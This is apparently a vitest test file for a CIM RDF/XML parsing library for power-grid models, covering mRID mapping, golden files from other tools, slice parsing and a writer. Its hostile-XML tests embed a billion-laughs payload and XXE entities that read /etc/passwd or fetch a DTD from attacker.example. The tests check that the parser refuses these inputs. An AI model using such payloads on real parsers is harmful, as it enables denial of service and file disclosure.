import { readFileSync, readdirSync } from 'node:fs';
import { dirname, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import {
  CIM_FATAL_CODES,
  CIM_ISSUE_CODES,
  CimParseError,
  CimWriter,
  classCounts,
  derivedMrid,
  extractAssets,
  identifiedObjectProblems,
  mergeDocuments,
  mridToUlid,
  normaliseId,
  parseCimXml,
  profileMarkdown,
  ulidToMrid,
  unitLinks,
  type CimAssetInput,
  type CimModel,
} from '../cim/index';
import { SLICE_CHARS } from '../cim/parser';
import { RULES } from '../src/rules';

/** The cim/ library on its own: mRIDs, the profile document, golden files from other tools, hostile XML. */

const root = resolve(dirname(fileURLToPath(import.meta.url)), '..');
const REF = resolve(root, 'test/fixtures/cim');
const raw = (f: string) => readFileSync(resolve(REF, f));
const EQ = 'entsoe-cgmes3_MicroGrid_20210209T1930Z_1D_BE_EQ_9.xml';
const SSH = 'entsoe-cgmes3_MicroGrid_20210209T1930Z_1D_BE_SSH_9.xml';
const NEPLAN = 'sogno-cimpy_CIGRE_MV_Rootnet_FULL_NE_24J13h_EQ.xml';
const CIMHUB = 'gridappsd-cimhub_IEEE13_PV.xml';
const TEXEL = 'alliander-pycgmes_Texel_EQ_malformed.xml';
const GMDM_PLAN = 'gridappsd-cimhub_gmdm_D_Plan_Basic_Golden_InstanceSet.xml';
const GMDM_SSH = 'gridappsd-cimhub_gmdm_D_SSH_Golden_InstanceSet.xml';
const [PF_EQ, PF_TP, PF_SSH] = ['EQ', 'TP', 'SSH'].map((p) => `sogno-cimpy_PowerFactory_NodeBreaker_${p}.xml`);

/**
 * Objects per class computed without the parser: every top-level `<prefix:Class rdf:ID|rdf:about=...>`
 * of the files, keyed by the identifier stripped of `#`, `urn:uuid:`, `_` and case; the class an
 * rdf:ID gives wins over an rdf:about description. The files use `cim:` for their CIM namespace.
 */
function regexCounts(files: string[]): Record<string, number> {
  const cls = new Map<string, { c: string; defined: boolean }>();
  for (const f of files) {
    const text = raw(f).toString('utf8');
    for (const m of text.matchAll(/<cim:([A-Za-z0-9]+)\s+rdf:(ID|about)="([^"]+)"/g)) {
      const key = m[3]
        .replace(/^#/, '')
        .replace(/^urn:uuid:/i, '')
        .replace(/^_/, '')
        .toLowerCase();
      const c = m[1] === 'PhotovoltaicUnit' ? 'PhotoVoltaicUnit' : m[1];
      const have = cls.get(key);
      if (!have || (m[2] === 'ID' && !have.defined)) cls.set(key, { c, defined: m[2] === 'ID' || !!have?.defined });
    }
  }
  const out: Record<string, number> = {};
  for (const { c } of cls.values()) out[c] = (out[c] ?? 0) + 1;
  return out;
}

const model = (...files: string[]): CimModel => mergeDocuments(files.map((f) => parseCimXml(raw(f), f)));
const codes = (m: CimModel, code: string) => m.issues.filter((i) => i.code === code);

describe('mRIDs', () => {
  it('map a ULID to a lowercase UUID-shaped string and back, for any case and prefix', () => {
    const ulid = '01JD8X6N2Q7ZB4Y3W5V6T7S8R9';
    const m = ulidToMrid(ulid);
    expect(m).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/);
    expect(mridToUlid(m)).toBe(ulid);
    expect(mridToUlid(`_${m.toUpperCase()}`)).toBe(ulid);
    expect(mridToUlid(`urn:uuid:${m}`)).toBe(ulid);
    // UUIDv8: version 8, variant 10 (test/cim-export-mrid.test.ts has the layout).
    expect(ulidToMrid('00000000000000000000000000')).toBe('00000000-0000-8000-8000-000000000000');
    expect(ulidToMrid('7ZZZZZZZZZZZZZZZZZZZZZZZZZ')).toBe(derivedMrid('fmar:ulid', '7ZZZZZZZZZZZZZZZZZZZZZZZZZ'));
    expect(() => ulidToMrid('not-a-ulid')).toThrow();
  });

  it('derive stable, distinct UUIDv8 mRIDs for sub-objects', () => {
    const a = derivedMrid('p', 'unit');
    expect(a).toBe(derivedMrid('p', 'unit'));
    expect(a).not.toBe(derivedMrid('p', 'asset'));
    expect(a[14]).toBe('8');
    expect(identifiedObjectProblems({ mrid: a })).toEqual([]);
  });

  it('normalise RDF identifiers (#, _, urn:uuid:, case)', () => {
    for (const s of ['_ABC-1', '#_abc-1', 'urn:uuid:ABC-1', 'abc-1', 'URN:UUID:abc-1']) expect(normaliseId(s)).toBe('abc-1');
  });
});

describe('profile', () => {
  it('docs/cim-profile.md is rendered from the table in cim/profile.ts (run `npm run docs:cim`)', () => {
    expect(readFileSync(resolve(root, 'docs/cim-profile.md'), 'utf8')).toBe(profileMarkdown());
  });
  it('every code the library reports is a rule code', () => {
    for (const c of [...CIM_ISSUE_CODES, ...CIM_FATAL_CODES]) expect(RULES, c).toHaveProperty(c);
  });
});

describe('golden files from other tools', () => {
  it('covers every file in the reference folder', () => {
    expect(
      readdirSync(REF)
        .filter((f) => f.endsWith('.xml'))
        .sort(),
    ).toEqual([TEXEL, EQ, SSH, CIMHUB, NEPLAN, GMDM_PLAN, GMDM_SSH, PF_EQ, PF_TP, PF_SSH].sort());
  });

  it('PowerFactory CGMES 2.4.15 EQ + TP + SSH (CIM16 of 2013, entsoe: extension): merged, counts per class, TP and SSH add to EQ objects', () => {
    const m = model(PF_EQ, PF_TP, PF_SSH);
    expect(classCounts(m)).toEqual(regexCounts([PF_EQ, PF_TP, PF_SSH]));
    // The TP file defines the connectivity and topological nodes; its terminals and the SSH's describe the EQ's.
    expect(classCounts(m)).toEqual({ ...regexCounts([PF_EQ]), ConnectivityNode: 12, TopologicalNode: 12 });
    expect(m.headers.map((h) => h.profiles)).toEqual([
      ['http://entsoe.eu/CIM/EquipmentCore/3/1', 'http://entsoe.eu/CIM/EquipmentOperation/3/1'],
      ['http://entsoe.eu/CIM/Topology/4/1'],
      ['http://entsoe.eu/CIM/SteadyStateHypothesis/1/1'],
    ]);
    expect(codes(m, 'CIM-REFERENCE-DANGLING')).toEqual([]);
    // A grid of breakers, lines and busbars: no asset the register keeps, and none invented.
    expect(extractAssets(m)).toEqual([]);
  });

  it('CGMES 3 EQ + SSH (BOM, rdf:ID / rdf:about="#_", eu: namespace): merged, counts per class, SSH adds to EQ objects', () => {
    const m = model(EQ, SSH);
    expect(classCounts(m)).toEqual(regexCounts([EQ, SSH]));
    expect(classCounts(m)).toEqual(regexCounts([EQ]));
    expect(m.headers.map((h) => h.profiles[0])).toEqual([
      'http://iec.ch/TC57/ns/CIM/CoreEquipment-EU/3.0',
      'http://iec.ch/TC57/ns/CIM/SteadyStateHypothesis-EU/3.0',
    ]);
    // A terminal defined in EQ carries the SSH `connected` flag after the merge.
    const t = m.objects.get('02a244ca-8bcb-4e25-8613-e948b8ba1f22')!;
    expect(t.className).toBe('Terminal');
    expect(t.properties['cim:ACDCTerminal.connected']).toEqual(['true']);
    expect(t.ids).toEqual(['_02a244ca-8bcb-4e25-8613-e948b8ba1f22', '#_02a244ca-8bcb-4e25-8613-e948b8ba1f22']);
    // SSH describes equipment as the abstract class Equipment; the EQ definition's class wins.
    expect(Object.keys(classCounts(m))).not.toContain('Equipment');
    // eu: properties resolve to the eu token (by IRI, not prefix).
    expect([...m.objects.values()].some((o) => Object.keys(o.properties).some((k) => k.startsWith('eu:')))).toBe(true);
    // The EQ file references boundary objects (base voltages) that only the boundary set defines.
    expect(codes(m, 'CIM-REFERENCE-DANGLING').length).toBeGreaterThan(0);
    expect(codes(m, 'CIM-REFERENCE-DANGLING').every((i) => i.file && i.line! > 0 && i.col! > 0)).toBe(true);
    // Loads: network references resolved through terminal → connectivity node → voltage level → substation.
    const loads = extractAssets(m);
    expect([loads.length, regexCounts([EQ]).ConformLoad]).toEqual([3, 3]);
    // Each resolved to objects of the model, not merely to some text.
    for (const l of loads)
      expect([m.objects.get(l.network.connectivityNode!)?.className, m.objects.get(l.network.substation!)?.className]).toEqual([
        'ConnectivityNode',
        'Substation',
      ]);
  });

  it('NEPLAN CIM16 (2012 namespace, neplan: extension, non-UUID IDs, Names): counts, names, unknown namespace reported', () => {
    const m = model(NEPLAN);
    expect(classCounts(m)).toEqual(regexCounts([NEPLAN]));
    const names = [...m.objects.values()].filter((o) => o.className === 'Name');
    // Each of the 65 Names names one object, and that object is in the model.
    expect(names.map((n) => (n.references['cim:Name.IdentifiedObject'] ?? []).filter((r) => m.objects.has(r.key)).length)).toEqual(
      Array(65).fill(1),
    );
    const ec = extractAssets(m);
    expect(ec).toHaveLength(regexCounts([NEPLAN]).EnergyConsumer);
    // Non-UUID identifiers keep their original form.
    expect(ec.some((e) => !/^[0-9a-f-]{36}$/.test(e.mrid))).toBe(true);
    // No MPAN or category in a planning model: said, not guessed.
    expect(ec.every((e) => e.category === undefined && e.problems.length > 0 && !e.importMpan)).toBe(true);
  });

  it('CIMHub CIM100 (urn:uuid upper case, PhotovoltaicUnit spelling, connection → unit links, W)', () => {
    const m = model(CIMHUB);
    const counts = classCounts(m);
    expect(counts).toEqual(regexCounts([CIMHUB]));
    expect(counts.PhotoVoltaicUnit).toBe(2);
    expect(
      [...m.objects.values()].filter((o) => o.className === 'PhotoVoltaicUnit').every((o) => o.writtenClassName === 'PhotovoltaicUnit'),
    ).toBe(true);
    // Every connection finds its unit although the file writes the link from the connection.
    const links = unitLinks(m);
    expect(links.size).toBe(counts.PowerElectronicsConnection);
    const pec = extractAssets(m, { unit: 'W' }).filter((e) => e.className === 'PowerElectronicsConnection');
    expect(pec.map((e) => e.category).sort()).toEqual(['BESS', 'BESS', 'BESS', 'SOLAR_PV', 'SOLAR_PV']);
    // Identifiers are upper case in the file: matched case-insensitively, stored normalised (lower case); the objects keep them as written.
    expect(pec.every((e) => e.mrid === e.mrid.toLowerCase() && /^[0-9a-f-]{36}$/.test(e.mrid))).toBe(true);
    expect(pec.every((e) => m.objects.get(e.mrid)!.ids[0] === `urn:uuid:${e.mrid.toUpperCase()}`)).toBe(true);
    const house = pec.find((e) => e.input.name === 'house')!;
    expect(house.input.ratedCapacityKw).toBeGreaterThan(0);
    expect(extractAssets(m, { unit: 'kW' }).find((e) => e.input.name === 'house')!.input.ratedCapacityKw).toBe(
      (house.input.ratedCapacityKw as number) * 1000,
    );
    // CIMHub positions are OpenDSS bus coordinates, not WGS84: not taken as latitude/longitude.
    expect(house.input.location).toBeUndefined();
    expect(house.problems).toContainEqual(expect.stringContaining('OpenDSSLocalBusCoordinates'));
    expect(house.network).toEqual(
      expect.objectContaining({ connectivityNode: expect.any(String), feeder: expect.any(String), substation: expect.any(String) }),
    );
    expect(codes(m, 'CIM-REFERENCE-DANGLING')).toEqual([]);
    // Classes the register does not read are kept and reported with counts.
    expect(m.objects.size).toBe(Object.values(counts).reduce((a, b) => a + b, 0));
    expect(codes(m, 'CIM-CLASS-UNKNOWN').map((i) => i.message)).toContainEqual(expect.stringContaining('cim:TransformerTankInfo'));
  });

  it('the malformed Texel file: no crash, no invented links, every finding located', () => {
    const m = model(TEXEL);
    expect(classCounts(m)).toEqual(regexCounts([TEXEL]));
    const text = raw(TEXEL).toString('utf8');
    const lines = text.split('\n');
    // References written as text: one finding per such property, on its line.
    const literalRefs = lines.map((l, i) => [l, i + 1] as const).filter(([l]) => /<cim:\w+\.[A-Z]\w*>[^<]+</.test(l));
    const found = codes(m, 'CIM-REFERENCE-AS-LITERAL');
    expect(found.map((i) => i.line).sort((a, b) => a! - b!)).toEqual(literalRefs.map(([, n]) => n));
    for (const i of found) expect(lines[i.line! - 1].slice(i.col! - 1)).toMatch(/^<cim:\w+\.[A-Z]/);
    for (const o of m.objects.values()) expect(o.references).toEqual({});
    // The bogus header: identifier, creation time and profile each reported, at the header's line.
    const header = codes(m, 'CIM-HEADER-INVALID');
    expect(header).toHaveLength(3);
    expect(header.every((i) => i.line === 3)).toBe(true);
  });
});

describe('hostile and malformed XML', () => {
  const rdf = (body: string) =>
    `<?xml version="1.0"?>\n<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cim="http://iec.ch/TC57/CIM100#">\n${body}\n</rdf:RDF>`;
  const refused = (input: string | Uint8Array, code: string, limits = {}) => {
    try {
      parseCimXml(input, 'x.xml', limits);
    } catch (e) {
      expect(e).toBeInstanceOf(CimParseError);
      expect((e as CimParseError).code).toBe(code);
      return e as CimParseError;
    }
    throw new Error('not refused');
  };

  it('billion laughs: refused before any expansion', () => {
    // 10^levels expansions if anything expanded them; the refusal is the same at 10^9 and 10^30.
    const lol = (levels: number) =>
      `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n${Array.from({ length: levels }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('\n')}\n]>\n<lolz>&lol${levels};</lolz>`;
    for (const levels of [9, 30]) {
      const e = refused(lol(levels), 'CIM-XML-DOCTYPE');
      // Refused at the DOCTYPE itself (line 2), before the root element that references the entities.
      expect([e.message, e.location]).toEqual([
        'x.xml declares entities (DOCTYPE with ENTITY); entity expansion is refused.',
        { file: 'x.xml', line: 2, col: 1 },
      ]);
    }
  });

  it('external entities (XXE) and parameter entities: refused, nothing fetched', () => {
    refused(
      `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">&xxe;</rdf:RDF>`,
      'CIM-XML-DOCTYPE',
    );
    refused(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><r/>`, 'CIM-XML-DOCTYPE');
    refused(`<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r/>`, 'CIM-XML-DOCTYPE');
  });

  it('undeclared entities stay text; only the five predefined ones and character references are decoded', () => {
    const d = parseCimXml(
      rdf(`<cim:Asset rdf:ID="_a"><cim:IdentifiedObject.name>A &amp; B &#x263A; &foo;</cim:IdentifiedObject.name></cim:Asset>`),
    );
    expect(d.objects[0].properties['cim:IdentifiedObject.name']).toEqual(['A & B ☺ &foo;']);
  });

  it('deep nesting: refused at the limit with its location, without recursion', () => {
    const deep = rdf('<a>'.repeat(100_000) + '</a>'.repeat(100_000));
    const e = refused(deep, 'CIM-XML-TOO-DEEP');
    expect(e.location!.line).toBe(3);
  });

  it('oversized input: refused before parsing', () => {
    refused(new Uint8Array(2048), 'CIM-XML-TOO-LARGE', { maxBytes: 1024 });
  });

  it('malformed XML: line and column of the fault', () => {
    const e = refused(
      rdf('<cim:Asset rdf:ID="_a">\n  <cim:IdentifiedObject.name>x</cim:IdentifiedObject.nam>\n</cim:Asset>'),
      'CIM-XML-MALFORMED',
    );
    expect(e.location).toMatchObject({ file: 'x.xml', line: 4 });
    expect(e.location!.col).toBeGreaterThan(1);
    refused('<rdf:RDF', 'CIM-XML-MALFORMED');
    refused('', 'CIM-XML-MALFORMED');
    refused('<root/>', 'CIM-XML-NOT-RDF');
  });

  it('not UTF-8: refused', () => {
    refused(new Uint8Array([0x3c, 0x61, 0xff, 0x3e]), 'CIM-XML-ENCODING');
    refused(`<?xml version="1.0" encoding="ISO-8859-1"?><a/>`, 'CIM-XML-ENCODING');
  });

  it('prefixes resolve from xmlns, never from their text', () => {
    const d =
      parseCimXml(`<x:RDF xmlns:x="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cim="urn:not-cim" xmlns:q="http://iec.ch/TC57/CIM100#">
      <q:BatteryUnit x:about="urn:uuid:ABC"><q:IdentifiedObject.name>b</q:IdentifiedObject.name></q:BatteryUnit>
      <cim:BatteryUnit x:ID="_def"/></x:RDF>`);
    expect(d.objects.map((o) => o.classIri)).toEqual(['http://iec.ch/TC57/CIM100#', 'urn:not-cim']);
    expect(d.objects[0].properties['cim:IdentifiedObject.name']).toEqual(['b']);
    // A namespace the hub does not know: its CIM class is read by local name, and the report says so.
    expect(d.objects.map((o) => o.classKey)).toEqual(['cim:BatteryUnit', 'cim:BatteryUnit']);
    expect(d.issues.map((i) => [i.code, i.namespace])).toEqual([['CIM-NAMESPACE-UNKNOWN', 'urn:not-cim']]);
  });
});

describe('parsing in slices of top-level elements', () => {
  const FILES = [EQ, SSH, NEPLAN, CIMHUB, TEXEL, GMDM_PLAN, GMDM_SSH];
  it.each(FILES)('%s: the same objects, issues and locations whatever the slice size', (f) => {
    const whole = parseCimXml(raw(f), f);
    // The documents fit in one default window; windows of 300 characters cut them more than ten times.
    expect(raw(f).byteLength).toBeLessThan(SLICE_CHARS);
    expect(raw(f).byteLength).toBeGreaterThan(10 * 300);
    for (const sliceChars of [1, 300, 5000]) expect(parseCimXml(raw(f), f, { sliceChars })).toEqual(whole);
  });

  it('a fault in a later slice: refused with the line and column a whole-document check gives', () => {
    const body = Array.from(
      { length: 200 },
      (_, i) => `<cim:Asset rdf:ID="_a${i}">\n  <cim:IdentifiedObject.name>a${i}</cim:IdentifiedObject.name>\n</cim:Asset>`,
    );
    body[150] = body[150].replace('</cim:IdentifiedObject.name>', '</cim:IdentifiedObject.nam>');
    const text = `<?xml version="1.0"?>\n<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cim="http://iec.ch/TC57/CIM100#">\n${body.join('\n')}\n</rdf:RDF>`;
    const fault = (sliceChars?: number) => {
      try {
        parseCimXml(text, 'x.xml', sliceChars ? { sliceChars } : {});
      } catch (e) {
        return [(e as CimParseError).code, (e as CimParseError).message, (e as CimParseError).location];
      }
      return 'parsed';
    };
    expect(fault(200)).toEqual(fault());
    expect(fault()).toEqual([
      'CIM-XML-MALFORMED',
      "x.xml is not well-formed XML: Expected closing tag 'cim:IdentifiedObject.name' (opened in line 454, col 3) instead of closing tag 'cim:IdentifiedObject.nam'.",
      { file: 'x.xml', line: 454, col: 34 },
    ]);
  });
});

describe('writer', () => {
  const base: CimAssetInput = {
    id: '01JD8X6N2Q7ZB4Y3W5V6T7S8R9',
    name: 'N'.repeat(200),
    category: 'SOLAR_PV',
    ratedCapacityKw: 4.25,
    connectionStatus: 'CONNECTED',
    exportMpan: '1312345678907',
    organisationId: '01JD8X6N2Q7ZB4Y3W5V6T7S8R8',
    fspId: '01JD8X6N2Q7ZB4Y3W5V6T7S8R8',
    aliases: [{ scheme: 'mcs', value: 'MCS-1 <&>' }],
  };

  it('writes well-formed RDF/XML whose identified objects pass the SHACL identity rules', () => {
    const w = new CimWriter();
    const doc =
      w.header({ created: new Date('2026-01-01T00:00:00Z'), modelingAuthoritySet: 'http://hub.test' }) +
      w.organisation({ id: base.organisationId, name: 'Org "&" <Ltd>' }) +
      w.organisation({ id: base.organisationId, name: 'again' }) +
      w.asset(base) +
      w.footer();
    const d = parseCimXml(doc);
    expect(d.issues).toEqual([]);
    expect(d.objects.filter((o) => o.className === 'Organisation')).toHaveLength(1);
    for (const o of d.objects) {
      if (['Name', 'NameType', 'PositionPoint'].includes(o.className)) continue;
      const mrid = o.properties['cim:IdentifiedObject.mRID']?.[0];
      expect(
        identifiedObjectProblems({
          mrid,
          name: o.properties['cim:IdentifiedObject.name']?.[0],
          description: o.properties['cim:IdentifiedObject.description']?.[0],
        }),
        o.className,
      ).toEqual([]);
      expect(o.ids[0]).toBe(`_${mrid}`);
    }
    const [e] = extractAssets(mergeDocuments([d]));
    expect(e.input).toMatchObject({
      name: base.name,
      category: 'SOLAR_PV',
      ratedCapacityKw: 4.25,
      exportMpan: base.exportMpan,
      aliases: [
        { scheme: 'mcs', value: 'MCS-1 <&>' },
        { scheme: 'cim_mrid', value: ulidToMrid(base.id) },
      ],
    });
    expect(identifiedObjectProblems({ mrid: 'x', name: 'n'.repeat(129), description: 'd'.repeat(257) })).toHaveLength(3);
    expect(identifiedObjectProblems({})).toEqual(['mRID missing']);
  });
});
